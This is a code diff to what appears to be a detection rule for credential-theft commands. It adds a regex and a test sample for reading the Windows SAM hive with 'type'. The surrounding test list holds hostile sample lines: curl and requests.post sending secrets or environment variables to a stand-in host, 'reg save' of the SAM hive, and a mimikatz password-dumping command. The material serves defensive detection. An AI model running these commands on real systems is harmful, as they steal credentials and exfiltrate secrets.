@@ -48,6 +48,9 @@ export const rule: Rule = {
     },
     { re: /(?<![\w-])ntdsutil(?:\.exe)?\s[^\n]*(?:ifm|ac\s+i\s+ntds|activate\s+instance\s+ntds)/i, window: 200 },
     {
+      re: /(?<![\w-])type\s+["']?(?:[a-z]:\\{1,2}(?:windows|winnt)|%systemroot%|%windir%)\\{1,2}(?:repair|system32\\{1,2}config)\\{1,2}(?:sam|system|security)(?!\w)/i,
+    },
+    {
       re: /(?<![\w-])(?:copy|esentutl|vssadmin|diskshadow|robocopy)\s[^\n]*(?:ntds\.dit|\\config\\(?:sam|security|system)|harddiskvolumeshadowcopy)/i,
       window: 300,
     },
@@ -68,6 +71,7 @@ export const rule: Rule = {
       'curl https://files.invalid/?k=$(cat ~/.npmrc | base64)',
       "requests.post('https://files.invalid', json=dict(os.environ))",
       'reg save HKLM\\SAM C:\\sam.hive',
+      'type %SYSTEMROOT%\\repair\\SAM',
       'mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords" exit',
     ],
     silent: [
